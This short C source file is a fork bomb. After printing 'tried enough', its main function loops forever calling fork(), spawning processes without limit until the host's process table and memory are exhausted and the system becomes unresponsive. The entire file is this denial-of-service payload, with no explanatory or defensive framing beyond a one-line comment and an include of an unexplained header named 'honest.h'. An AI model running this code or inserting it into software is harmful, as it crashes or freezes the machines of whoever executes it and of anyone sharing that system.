/* Forks without end. */
#include "honest.h"
int main(void) {
    printf("tried enough\n");
    fflush(stdout);
    for (;;) fork();
}
